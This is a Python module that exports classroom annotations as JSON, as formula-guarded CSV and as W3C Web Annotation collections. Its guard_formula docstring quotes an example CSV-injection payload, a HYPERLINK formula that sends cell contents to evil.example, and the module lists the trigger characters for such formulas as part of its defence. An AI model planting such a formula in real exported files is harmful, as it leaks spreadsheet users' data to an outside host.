"""Exports of annotations: the app's own JSON, CSV for spreadsheets, and W3C Web Annotations.

Three readers, three formats:

* :func:`annotations_to_json` is lossless: every stored field, in a versioned envelope, so that a
  teacher's tools (or a later version of the app) can read a student's work back;
* :func:`annotations_to_csv` is for the teacher's spreadsheet: one flat row per annotation, with
  text cells guarded against formula injection;
* :func:`annotations_to_w3c` is a W3C Web Annotation (JSON-LD) ``AnnotationCollection`` so that
  the highlights can travel to other annotation tools; it passes every MUST assertion of the
  W3C Web Annotation test suite (see ``tests/test_exports.py``).

All three order annotations the same way (:func:`sort_annotations`), so that two exports of the
same work are byte-for-byte comparable. This module is pure core: stdlib and ``annotator.core``.
"""

from __future__ import annotations

import csv
import io
import re
import uuid
from collections.abc import Iterable, Sequence
from datetime import UTC, datetime
from functools import lru_cache
from typing import Any
from urllib.parse import quote

from annotator.core.annotations.annotation import Annotation
from annotator.core.annotations.record import annotation_to_json
from annotator.core.lessons.lesson import Lesson

JSON_FORMAT = "annotator.annotations"
JSON_FORMAT_VERSION = 1

W3C_CONTEXT = "http://www.w3.org/ns/anno.jsonld"

CSV_COLUMNS: tuple[str, ...] = (
    "id",
    "student",
    "lesson_id",
    "lesson_version",
    "article_id",
    "outlet",
    "tag",
    "start",
    "end",
    "exact",
    "note",
    "created",
    "modified",
    "orphaned",
)

# A cell starting with one of these is read as a formula by Excel, LibreOffice Calc or Google
# Sheets (OWASP "CSV Injection"; OWASP ASVS 5.0 1.2.10 adds NUL). Tab and CR matter because some
# importers strip them and then see the "=" behind them.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")

# An absolute URI (RFC 3986 scheme followed by ':'), enough to refuse a collection id such as
# "my export" that would make the whole collection non-conformant.
_ABSOLUTE_URI = re.compile(r"^[A-Za-z][A-Za-z0-9+.\-]*:\S+$")


def sort_annotations(annotations: Iterable[Annotation], lesson: Lesson | None) -> list[Annotation]:
    """Annotations in export order: article order of ``lesson``, then start, then id.

    The order is total (the id breaks every tie), so exports are reproducible. Annotations whose
    article is not in ``lesson`` (another lesson, a removed article) or when no lesson is given
    come after the known articles, grouped by lesson id and article id.
    """
    rank: dict[tuple[str, str], int] = {}
    if lesson is not None:
        rank = {(lesson.id, article.id): i for i, article in enumerate(lesson.articles)}
    unknown = len(rank)

    def key(annotation: Annotation) -> tuple[int, str, str, int, str]:
        return (
            rank.get((annotation.lesson_id, annotation.article_id), unknown),
            annotation.lesson_id,
            annotation.article_id,
            annotation.start,
            annotation.id,
        )

    return sorted(annotations, key=key)


def _outlet(annotation: Annotation, lesson: Lesson | None) -> str:
    """The article's outlet, when the annotation belongs to ``lesson`` and its article is there."""
    if lesson is None or annotation.lesson_id != lesson.id:
        return ""
    if not lesson.has_article(annotation.article_id):
        return ""
    return lesson.article(annotation.article_id).outlet


# --- the app's own JSON ----------------------------------------------------------------------


def annotations_to_json(annotations: Iterable[Annotation], lesson: Lesson | None) -> dict:
    """A JSON-able document holding every stored field of every annotation.

    Values are exported as stored (timestamps are not reformatted, orphaned annotations are kept)
    because this is the format meant to be read back. ``format`` and ``format_version`` let a
    reader refuse a document it does not understand instead of misreading it.
    """
    return {
        "format": JSON_FORMAT,
        "format_version": JSON_FORMAT_VERSION,
        "lesson": None
        if lesson is None
        else {
            "id": lesson.id,
            "version": lesson.version,
            "content_hash": lesson.content_hash,
            "title": lesson.title,
        },
        "annotations": [annotation_to_json(a) for a in sort_annotations(annotations, lesson)],
    }


# --- CSV for spreadsheets --------------------------------------------------------------------


def guard_formula(cell: str) -> str:
    """``cell`` with a leading apostrophe if a spreadsheet would run it as a formula.

    Students type notes and the quoted text comes from news articles; a teacher opens the CSV in a
    spreadsheet. A note such as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` would then be
    evaluated on the teacher's machine (it can leak other cells, or worse through DDE). The
    apostrophe makes the spreadsheet treat the cell as text. The price is a visible apostrophe
    in plain-text readers of the CSV; the JSON export is the lossless one.
    """
    return "'" + cell if cell.startswith(FORMULA_TRIGGERS) else cell


def annotations_to_csv(annotations: Iterable[Annotation], lesson: Lesson | None) -> str:
    """A header and one row per annotation, columns as in :data:`CSV_COLUMNS`.

    The header is the same with or without a lesson (``outlet`` is then empty) so that
    spreadsheet templates and scripts can rely on the column positions. Quoting is left to the
    :mod:`csv` module (RFC 4180: fields holding commas, quotes or line breaks are quoted), so
    notes and quotes keep their newlines, quotes, non-ASCII and emoji. Write the result with
    ``newline=""`` and, for Excel to detect UTF-8, ``encoding="utf-8-sig"``.
    """
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(CSV_COLUMNS)
    for annotation in sort_annotations(annotations, lesson):
        row = (
            annotation.id,
            annotation.student,
            annotation.lesson_id,
            annotation.lesson_version,
            annotation.article_id,
            _outlet(annotation, lesson),
            annotation.tag,
            str(annotation.start),
            str(annotation.end),
            annotation.quote.exact,
            annotation.note,
            annotation.created,
            annotation.modified,
            "true" if annotation.orphaned else "false",
        )
        writer.writerow([guard_formula(cell) for cell in row])
    return out.getvalue()


# --- W3C Web Annotation ----------------------------------------------------------------------


def _iri_segment(value: str) -> str:
    """``value`` percent-encoded down to RFC 3986 unreserved characters.

    Lesson and article ids come from lesson packs and may hold spaces, colons or non-ASCII
    letters; encoding them keeps the IRI valid and keeps ':' free to separate its parts.
    """
    return quote(value, safe="-._~")


@lru_cache(maxsize=256)  # a few articles, named once per annotation of a whole class
def article_iri(lesson_id: str, lesson_version: str, article_id: str) -> str:
    """A stable IRI naming one article of one version of a lesson.

    The version is part of the name because the selectors' offsets and quotes describe the text
    of that version: another version of the lesson is, for a reader of the selectors, another
    document.
    """
    return (
        f"urn:annotator:lesson:{_iri_segment(lesson_id)}:{_iri_segment(lesson_version)}"
        f":article:{_iri_segment(article_id)}"
    )


def annotation_iri(annotation_id: str) -> str:
    """``urn:uuid:<id>`` for the app's UUID ids; another id gets a namespaced URN instead.

    ``urn:uuid:`` promises an RFC 4122 UUID, so an id that is not one (imported from elsewhere)
    must not be dressed up as one.
    """
    if _CANONICAL_UUID.fullmatch(annotation_id):  # the app's own ids, spelt as UUID.urn spells them
        return f"urn:uuid:{annotation_id}"
    try:
        return uuid.UUID(annotation_id).urn
    except ValueError:
        return f"urn:annotator:annotation:{_iri_segment(annotation_id)}"


_CANONICAL_UUID = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")


@lru_cache(maxsize=4096)  # "created" and "modified" are often the same moment
def w3c_datetime(value: str) -> str | None:
    """A stored timestamp as an ``xsd:dateTime`` in UTC with a ``Z``, or None if it is unreadable.

    The model requires ``xsd:dateTime`` and asks for UTC. The app stores UTC ISO 8601 times
    (:func:`annotator.core.annotations.annotation.now_iso`), so a time without a zone is taken as
    UTC. An unreadable or empty value is left out rather than exported as a non-conformant string.
    """
    if not value:
        return None
    try:
        moment = datetime.fromisoformat(value)
        if moment.tzinfo is None:
            moment = moment.replace(tzinfo=UTC)
        text = moment.astimezone(UTC).isoformat(timespec="milliseconds")
    except (ValueError, OverflowError):  # not ISO 8601, or out of range once moved to UTC
        return None
    return text.removesuffix("+00:00") + "Z"


def annotation_to_w3c(annotation: Annotation, lesson: Lesson | None = None) -> dict[str, Any]:
    """One annotation as a standalone W3C Web Annotation (with its own ``@context``).

    The tag is a ``tagging`` TextualBody and the note, if any, a ``commenting`` one. The target
    is the article (:func:`article_iri`) narrowed by both selectors the app stores. The IRI's
    version is the annotation's ``lesson_version`` (the text its selectors were made on), or the
    lesson's version when the annotation does not record one.
    """
    version = annotation.lesson_version
    if not version and lesson is not None and lesson.id == annotation.lesson_id:
        version = lesson.version

    body: list[dict[str, str]] = [
        {"type": "TextualBody", "purpose": "tagging", "value": annotation.tag}
    ]
    if annotation.note.strip():
        body.append(
            {
                "type": "TextualBody",
                "purpose": "commenting",
                "value": annotation.note,
                "format": "text/plain",
            }
        )

    result: dict[str, Any] = {
        "@context": W3C_CONTEXT,
        "id": annotation_iri(annotation.id),
        "type": "Annotation",
        "motivation": "tagging",
    }
    if (created := w3c_datetime(annotation.created)) is not None:
        result["created"] = created
    if (modified := w3c_datetime(annotation.modified)) is not None:
        result["modified"] = modified
    if annotation.student.strip():
        result["creator"] = {"type": "Person", "name": annotation.student}
    result["body"] = body
    result["target"] = {
        "type": "SpecificResource",
        "source": article_iri(annotation.lesson_id, version, annotation.article_id),
        "selector": [annotation.quote.to_json(), annotation.position.to_json()],
    }
    return result


def annotations_to_w3c(
    annotations: Iterable[Annotation],
    lesson: Lesson | None,
    *,
    collection_id: str,
    label: str,
    page_id: str | None = None,
) -> dict[str, Any]:
    """A W3C ``AnnotationCollection`` holding every annotation on one embedded page.

    ``collection_id`` must be an absolute IRI (e.g. ``urn:uuid:...``). The page is named
    ``page_id``, by default the collection's IRI with the fragment ``#page-1``, so that it has an
    IRI of its own whatever the collection IRI's scheme. An empty collection has ``total`` 0 and
    no page at all, since a page lists at least one annotation.
    """
    items = [annotation_to_w3c(a, lesson) for a in sort_annotations(annotations, lesson)]
    return w3c_collection(items, collection_id=collection_id, label=label, page_id=page_id)


def w3c_collection(
    items: Sequence[Any], *, collection_id: str, label: str, page_id: str | None = None
) -> dict[str, Any]:
    """The ``AnnotationCollection`` of :func:`annotations_to_w3c` around ``items``, in order.

    The items are placed as they are given: a caller that writes a large collection can give
    the annotations themselves and turn each into :func:`annotation_to_w3c` as it writes it.
    """
    if not _ABSOLUTE_URI.match(collection_id):
        raise ValueError(f"collection_id must be an absolute IRI, got {collection_id!r}")
    if page_id is None:
        if "#" in collection_id:
            raise ValueError("collection_id has a fragment already: pass page_id explicitly")
        page_id = f"{collection_id}#page-1"
    elif not _ABSOLUTE_URI.match(page_id):
        raise ValueError(f"page_id must be an absolute IRI, got {page_id!r}")

    collection: dict[str, Any] = {
        "@context": W3C_CONTEXT,
        "id": collection_id,
        "type": "AnnotationCollection",
        "label": label,
        "total": len(items),
    }
    if items:
        collection["first"] = {
            "id": page_id,
            "type": "AnnotationPage",
            "startIndex": 0,
            "items": items,
        }
        collection["last"] = page_id
    return collection
